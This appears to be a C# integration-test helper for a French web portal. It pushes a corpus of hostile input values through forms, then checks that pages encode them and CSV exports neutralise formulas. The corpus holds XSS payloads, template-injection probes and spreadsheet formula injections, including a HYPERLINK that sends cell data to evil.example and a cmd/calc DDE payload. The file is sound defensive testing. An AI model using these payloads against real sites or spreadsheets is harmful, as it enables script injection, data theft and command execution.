using System.Text;
using AngleSharp.Html.Dom;
using Xunit.Sdk;

namespace Observatoire.IntegrationTests.Security;

/// <summary>
/// Hostile values for text fields, and the checks every page that shows them must pass. Each value carries a marker
/// (" ZQ07") so that a record can be found again in lists, search results and exports.
/// </summary>
public static class HostileCorpus
{
    public static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "\"><script>alert(2)</script>",
        "'><img src=x onerror=alert(3)>",
        "<svg onload=alert(4)>",
        "<svg><script>alert(5)</script></svg>",
        "<a href=\"javascript:alert(6)\">clic</a>",
        "<a href=\"JaVaScRiPt:alert(7)\">clic</a>",
        "<a href=\"&#106;&#97;vascript:alert(8)\">clic</a>",
        "<a href=\"&#x6A;avascript&#58;alert(9)\">clic</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=\">x</a>",
        "<a href=\"vbscript:msgbox(11)\">x</a>",
        "[lien](javascript:alert(12))",
        "[lien](  JAVASCRIPT:alert(13) )",
        "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTQpPg==)",
        "<div onmouseover=\"alert(15)\">survol</div>",
        "<iframe src=\"javascript:alert(16)\"></iframe>",
        "<form action=\"javascript:alert(17)\"><button>ok</button></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(18)>",
        "<style>body{display:none}</style>",
        "{{7*7}} @(1+1) ${7*7} <%= 7*7 %>",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "ad\u200Dmin\u200B\u2060in",
        "Сentre sосial (homoglyphes cyrilliques)",
        "Atelier 🧑‍💻 𝕏 👍🏽 \U0001F600",
        "\t=1+1",
    ];

    /// <summary>
    /// The classes of #21, each with a value: what the portal refuses at input (UserText: non-characters, controls and NUL,
    /// bidi overrides and isolates) and what it must keep or refuse with a message (a 1,000-character URL, an
    /// 8,000-character word, a formula, script and Markdown injections). <see cref="EveryFormTests"/> pushes each through
    /// every text field of every form; <see cref="Payloads"/> holds only values the portal keeps, read back everywhere.
    /// </summary>
    public const string OuterWhiteSpace = "blancs autour";

    public static readonly (string Class, string Value)[] Classes =
    [
        ("non-caractère", "outil \ufffe fin"),
        ("non-caractère FDD0", "outil \ufdd0 fin"),
        ("NUL", "a\u0000b"),
        ("contrôle C0", "a\u0001b\u0007c\u001Bd"),
        ("contrôle C1", "a\u0085b"),
        ("bidi U+202E", "facture\u202Egpj.exe"),
        ("isolat bidi", "a\u2066b\u2069c"),
        ("URL de 1 000 caractères", "https://exemple.org/" + new string('u', 980)),
        ("mot de 8 000 caractères", new string('m', 8000)),
        ("formule", "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"clic\")"),
        ("script", "<script>alert(1)</script><img src=x onerror=alert(2)>"),
        ("Markdown", "[lien](javascript:alert(3)) ![image](https://ailleurs.example/x.png)"),
        // White space around a value is not text (UserText.Outer): kept exactly, or taken off both ends and nothing else.
        (OuterWhiteSpace, "  \t Atelier   du  mardi"),
    ];

    public static string Marker(int n) => $"ZQ{n:00}";

    public static string Value(int n) => $"{Payloads[n]} {Marker(n)}";

    /// <summary>What a reader should see of a value: the portal may drop control characters (C0, except tab and line feed).</summary>
    public static string Visible(string value) =>
        string.Join(' ', new string(value.Where(c => !char.IsControl(c) || c is '\t' or '\n').ToArray())
            .Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries));

    /// <summary>No script, no event handler, no javascript:/data:/vbscript: link or source, no frame came from the input.</summary>
    public static void AssertHarmless(IDocument page, string where, List<string> failures)
    {
        foreach (var script in page.QuerySelectorAll("script"))
            if (script.GetAttribute("src") is not { } src || !src.StartsWith('/') || src.StartsWith("//") || script.TextContent.Trim().Length > 0)
                failures.Add($"{where} : élément <script> venu de la saisie ({Excerpt(script.OuterHtml)})");
        foreach (var element in page.All)
            foreach (var attribute in element.Attributes)
            {
                if (attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase))
                    failures.Add($"{where} : attribut {attribute.Name} sur <{element.LocalName}>");
                if (attribute.Name is "href" or "src" or "action" or "formaction" or "xlink:href" or "data" or "poster" or "srcdoc" or "background"
                    && Dangerous(attribute.Value))
                    failures.Add($"{where} : {attribute.Name}=\"{Excerpt(attribute.Value)}\" sur <{element.LocalName}>");
            }
        if (page.Body?.QuerySelector("iframe, object, embed, base, meta, link, style") is { } intruder)
            failures.Add($"{where} : élément <{intruder.LocalName}> dans le corps de la page");
    }

    public static bool Dangerous(string value)
    {
        var compact = new string(value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray()).ToLowerInvariant();
        return compact.StartsWith("javascript:") || compact.StartsWith("data:") || compact.StartsWith("vbscript:");
    }

    /// <summary>The value is shown as text (encoded), not dropped.</summary>
    public static void AssertShown(IDocument page, string value, string where, List<string> failures)
    {
        var text = Visible(page.Body?.TextContent ?? "");
        if (!text.Contains(Visible(value), StringComparison.Ordinal))
            failures.Add($"{where} : le texte « {Excerpt(Visible(value))} » n'est pas affiché");
    }

    /// <summary>Cells of a CSV file (RFC 4180, ';' or ',' separated).</summary>
    public static List<List<string>> ParseCsv(string csv)
    {
        var firstLine = csv.Split('\n')[0];
        var separator = firstLine.Count(c => c == ';') >= firstLine.Count(c => c == ',') ? ';' : ',';
        var rows = new List<List<string>> { new() };
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"') { cell.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else cell.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == separator) { rows[^1].Add(cell.ToString()); cell.Clear(); }
            else if (c == '\n') { rows[^1].Add(cell.ToString().TrimEnd('\r')); cell.Clear(); rows.Add([]); }
            else cell.Append(c);
        }
        rows[^1].Add(cell.ToString());
        return rows.Where(r => r.Count > 1 || r[0].Length > 0).ToList();
    }

    /// <summary>Every cell a spreadsheet would read as a formula must be neutralised (a leading apostrophe).</summary>
    public static void AssertCsvSafe(string csv, string where, List<string> failures)
    {
        foreach (var cell in ParseCsv(csv).SelectMany(r => r))
            if (cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r' && !IsPlainNumber(cell))
                failures.Add($"{where} : cellule CSV non neutralisée « {Excerpt(cell)} »");
    }

    private static bool IsPlainNumber(string cell) => decimal.TryParse(cell, System.Globalization.NumberStyles.Number, System.Globalization.CultureInfo.InvariantCulture, out _)
        && !cell.Contains('+', StringComparison.Ordinal);

    /// <summary>The id ASP.NET Core gives the input of a field name ("Input.Options[0].Label" → "Input_Options_0__Label").</summary>
    public static string FieldId(string field) => field.Replace('.', '_').Replace('[', '_').Replace(']', '_');

    /// <summary>The message shown next to <paramref name="field"/> (empty when there is none).</summary>
    public static string FieldMessage(IDocument page, string field)
    {
        var id = FieldId(field);
        var message = page.QuerySelector($"[data-valmsg-for='{field}'], [id='{id}-error'], [id='{id}-erreur']")
            ?? page.QuerySelector($"[name='{field}']")?.GetAttribute("aria-describedby")?.Split(' ')
                .Select(d => page.GetElementById(d)).FirstOrDefault(e => e is not null && e.ClassList.Contains("field-error"));
        return message?.TextContent.Trim() ?? "";
    }

    public static string Excerpt(string s) => s.Length <= 80 ? s : s[..80] + "…";

    /// <summary>
    /// Fills the page's main form as a person would (select: first choice, radio: the checked or first one, dates in a
    /// week, numbers 5), overrides with <paramref name="fields"/> and posts it with its antiforgery token.
    /// </summary>
    public static async Task<HttpResponseMessage> SubmitFilled(this HttpClient client, string url, IDictionary<string, string> fields,
        string formSelector = "main form[method=post]", params (string Name, string Value)[] extra)
    {
        var page = await client.GetHtml(url);
        var form = page.QuerySelector(formSelector) as IHtmlFormElement
            ?? throw new XunitException($"Aucun formulaire « {formSelector} » sur {url}.");
        var values = new List<KeyValuePair<string, string>>();
        var seenRadios = new HashSet<string>();
        foreach (var element in form.Elements)
        {
            var name = element.GetAttribute("name");
            if (string.IsNullOrEmpty(name) || fields.ContainsKey(name)) continue;
            switch (element)
            {
                case IHtmlInputElement input:
                    var type = (input.Type ?? "text").ToLowerInvariant();
                    if (type is "submit" or "button" or "file" or "image" or "reset") break;
                    if (type == "checkbox") { if (input.IsChecked) values.Add(new(name, input.Value)); break; }
                    if (type == "radio")
                    {
                        var group = form.Elements.OfType<IHtmlInputElement>().Where(r => r.Type == "radio" && r.Name == name).ToList();
                        if (seenRadios.Add(name)) values.Add(new(name, (group.FirstOrDefault(r => r.IsChecked) ?? group[0]).Value));
                        break;
                    }
                    var value = input.Value;
                    if (string.IsNullOrEmpty(value))
                        value = type switch
                        {
                            "date" => DateTime.Today.AddDays(7).ToString("yyyy-MM-dd"),
                            "time" => "14:00",
                            "number" => "5",
                            _ => "",
                        };
                    values.Add(new(name, value));
                    break;
                case IHtmlSelectElement select:
                    var chosen = select.Options.FirstOrDefault(o => o.IsSelected && o.Value != "") ?? select.Options.FirstOrDefault(o => o.Value != "");
                    if (chosen is not null) values.Add(new(name, chosen.Value));
                    break;
                case IHtmlTextAreaElement area:
                    values.Add(new(name, area.Value));
                    break;
            }
        }
        values.AddRange(fields);
        values.AddRange(extra.Select(e => new KeyValuePair<string, string>(e.Name, e.Value)));
        var action = form.GetAttribute("action");
        return await client.PostAsync(string.IsNullOrEmpty(action) ? url : action, new FormUrlEncodedContent(values));
    }

    /// <summary>The form came back with a French message next to <paramref name="field"/>, and kept the other values.</summary>
    public static async Task AssertRefusedNextToField(HttpResponseMessage response, string field, IDictionary<string, string> kept,
        string where, List<string> failures)
    {
        if (response.StatusCode != HttpStatusCode.OK)
        {
            failures.Add($"{where} : {(int)response.StatusCode} au lieu du formulaire avec un message");
            return;
        }
        var page = await response.ReadHtml();
        var text = FieldMessage(page, field);
        if (text.Length == 0 || !text.Contains("caractères"))
            failures.Add($"{where} : pas de message « … caractères » à côté de {field} (trouvé : « {Excerpt(text)} »)");
        foreach (var (name, value) in kept)
        {
            var input = page.QuerySelector($"[name='{name}']");
            var shown = input switch { IHtmlTextAreaElement t => t.Value, IHtmlInputElement i => i.Value, _ => null };
            if (shown is not null && Visible(shown) != Visible(value))
                failures.Add($"{where} : la valeur de {name} est perdue au retour du formulaire");
        }
    }
}
